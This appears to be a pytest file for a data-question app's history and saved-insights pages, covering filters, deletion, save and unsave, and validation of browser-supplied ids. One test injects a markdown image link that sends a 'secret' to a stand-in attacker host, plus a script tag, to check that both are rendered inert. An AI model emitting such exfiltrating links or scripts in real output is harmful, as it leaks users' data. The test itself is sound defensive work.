"""History and saved insights pages without a browser: filters, deleted sources, delete, save/unsave."""

from __future__ import annotations

from dataclasses import asdict, replace

import pytest

from lumiere.core.engine import CannotAnswer
from lumiere.core.enums import Engine, QueryOrigin, QueryStatus
from lumiere.db import saved_id, session_scope
from lumiere.services import ask, history, insights, sources
from lumiere.services.auth import issue_token, register_user
from lumiere.services.history import HistoryEntry
from lumiere.state.arguments import INVALID_LINK, MAX_LABEL_CHARS, NOT_A_PAGE
from lumiere.state.history import HistoryState, history_row
from lumiere.state.insights import InsightsState
from lumiere.state.query import QueryState
from tests.helpers.page_state import page_state, settled


@pytest.fixture
def asked(app_db):
    """A user with two sources, a good answer on each and a failed question on the first."""
    with session_scope() as session:
        user = register_user(session, email="historian@example.com", password="correct horse", name="Historian")
        first = saved_id(sources.load_sample_dataset(session, user))
        second = saved_id(sources.load_sample_dataset(session, user))
        good = ask.ask_question(session, user, source_id=first, question="How many rows are there for each continent?")
        other = ask.ask_question(session, user, source_id=second, question="How many rows are there?")
        ids = {"first": first, "second": second, "good": good.query.id, "other": other.query.id}
        session.expunge(user)
    with pytest.raises(CannotAnswer), session_scope() as session:
        ask.ask_question(session, user, source_id=first, question="zzz qqq xyzzy")
    return user, issue_token(user).access_token, ids


def test_filters_search_status_and_source(asked):
    _, token, ids = asked
    state = page_state(HistoryState, token, "/history")
    settled(state.load())
    assert state.total == 3 and [item.status for item in state.items] == ["refused", "ok", "ok"]
    assert {item.id: item.name for item in state.filter_sources} == {
        str(ids["first"]): "gapminder",
        str(ids["second"]): "gapminder (2)",  # a second source of one name is numbered
    }
    assert state.total_label == "3 entries" and state.items[1].rows.endswith((" rows", " row"))

    settled(state.set_search("CONTINENT"))
    assert [item.id for item in state.items] == [str(ids["good"])]
    settled(state.set_search("group by"))  # matches the SQL, not the question
    assert [item.id for item in state.items] == [str(ids["good"])]
    settled(state.clear_filters())
    settled(state.set_status_filter("error"))
    assert state.items == []  # a question the engine declined is not a failure...
    settled(state.set_status_filter("refused"))
    assert [item.status_label for item in state.items] == ["Refused"] and state.items[0].error  # ...but a refusal
    settled(state.set_status_filter("bogus"))
    assert state.status_filter == "all" and state.total == 3
    settled(state.set_source_filter(str(ids["second"])))
    assert [item.id for item in state.items] == [str(ids["other"])]
    assert state.filtered
    settled(state.set_date_from("2999-01-01"))
    assert state.items == [] and state.total == 0
    settled(state.set_date_from("not a date"))
    assert state.date_from == "" and state.total == 1


def test_deleted_sources_are_named_and_entries_can_be_deleted(asked):
    user, token, ids = asked
    with session_scope() as session:
        sources.delete_source(session, user, ids["second"])
    state = page_state(HistoryState, token, "/history")
    settled(state.load())
    gone = next(item for item in state.items if item.id == str(ids["other"]))
    assert gone.source_gone == "gone" and gone.source_name == "gapminder (2)"
    assert str(ids["second"]) not in {item.id for item in state.filter_sources}

    state.ask_delete(str(ids["good"]), "How many rows are there for each continent?")
    assert state.confirming_delete
    state.cancel_delete()
    assert state.total == 3
    state.ask_delete(str(ids["good"]), "How many rows are there for each continent?")
    settled(state.confirm_delete())
    assert state.total == 2 and str(ids["good"]) not in {item.id for item in state.items}
    assert f"'/query?rerun={ids['other']}'" in str(state.rerun(str(ids["other"])))


def test_history_rows_read_as_text():
    row = history_row(
        HistoryEntry(
            id=3,
            question="",
            sql="SELECT  1\n FROM t",
            status=QueryStatus.REFUSED,
            error="Only SELECT.",
            row_count=None,
            duration_ms=1234,
            source_id=1,
            source_name="s",
            engine=Engine.USER,
            origin=QueryOrigin.SQL,
            note=None,
            chart=None,
            created_at="2025-03-01T14:05:09Z",
            source_exists=True,
        )
    )
    assert asdict(row) == {
        "id": "3",
        "question": "(SQL written by hand)",
        "sql": "SELECT 1 FROM t",
        "status": "refused",
        "status_label": "Refused",
        "error": "Only SELECT.",
        "source_name": "s",
        "source_gone": "",
        "origin": "Edited SQL",
        "rows": "",
        "duration": "1,234 ms",
        "created": "2025-03-01 14:05 UTC",
        "asked_by": "",
    }


def test_saved_insights_list_unsave_and_delete(asked):
    user, token, ids = asked
    with session_scope() as session:
        insight = insights.create_insight(session, user, ids["good"])
        insights.set_saved(session, user, saved_id(insight), True)
        insight_id = saved_id(insight)
    page = page_state(InsightsState, token, "/insights")
    settled(page.load())
    assert [(item.id, item.question) for item in page.saved_items] == [
        (str(insight_id), "How many rows are there for each continent?")
    ]
    assert "Africa" in page.saved_items[0].text

    settled(page.unsave(str(insight_id)))
    assert page.saved_items == []
    with session_scope() as session:
        insights.set_saved(session, user, insight_id, True)
    settled(page.load())
    page.ask_delete(str(insight_id))
    settled(page.confirm_delete())
    assert page.saved_items == [] and not page.confirming_delete
    with session_scope() as session:
        assert insights.list_insights(session, user) == []


def test_the_insight_panel_shows_text_inert_and_toggles_saved(asked):
    user, token, ids = asked
    with session_scope() as session:
        insight = insights.public_insight(insights.create_insight(session, user, ids["good"]))
    panel = page_state(QueryState, token, "/query")
    panel._prepare_insight(ids["good"])
    panel._show_insight(
        replace(insight, text=insight.text + "\n\n![x](http://evil.example/?q=secret) <script>x</script>")
    )
    assert "![x](" not in panel.insight_text and "<script>" not in panel.insight_text
    assert "`http://evil.example/?q=secret`" in panel.insight_text
    assert not panel.insight_busy and not panel.insight_saved

    settled(panel.toggle_insight_saved())
    assert panel.insight_saved
    with session_scope() as session:
        assert [item.id for item in insights.list_insights(session, user, saved=True)] == [insight.id]
    settled(panel.toggle_insight_saved())
    assert not panel.insight_saved


def test_ids_from_the_browser_are_checked_before_use(asked, caplog):
    _, token, ids = asked
    state = page_state(HistoryState, token, "/history")
    settled(state.load())
    caplog.clear()
    for bad in ("abc", "", "-3", "0", "1e3", "١٢", "9" * 40, None, ["1"], {"id": 1}):
        outcome = state.rerun(bad)
        assert INVALID_LINK in str(outcome) and "rerun" not in str(outcome)
        assert INVALID_LINK in str(state.ask_delete(bad, "question"))
        assert not state.confirming_delete
    assert f"'/query?rerun={ids['other']}'" in str(state.rerun(ids["other"]))
    assert INVALID_LINK in str(settled(page_state(InsightsState, token, "/insights").unsave("abc")))
    assert NOT_A_PAGE in str(settled(state.go_to_page("second")))
    settled(state.go_to_page(99))  # past the last page: the last page, as the arrows would
    assert state.page == 1 and state.total == 3
    assert [record for record in caplog.records if record.exc_info or record.levelname == "ERROR"] == []


def test_filters_from_the_browser_stay_within_their_sets(asked):
    _, token, _ = asked
    state = page_state(HistoryState, token, "/history")
    settled(state.load())
    settled(state.set_search("x" * 5000))
    assert len(state.search) == history.MAX_SEARCH_CHARS
    settled(state.set_search(["not", "text"]))
    assert state.search == "" and state.total == 3
    settled(state.set_status_filter(["ok"]))
    settled(state.set_source_filter("0"))
    settled(state.set_date_to(20250101))
    assert (state.status_filter, state.source_filter, state.date_to) == ("all", "all", "")
    state.ask_delete("1", "q" * 5000)
    assert len(state.pending_delete_question) == MAX_LABEL_CHARS


def test_a_signed_out_visitor_is_sent_to_sign_in_by_every_page_load(app_db):
    for cls, url in ((HistoryState, "/history"), (InsightsState, "/insights"), (QueryState, "/query")):
        outcome = settled(page_state(cls, "not-a-token", url).load())
        assert f"/login?next={url}" in str(outcome)
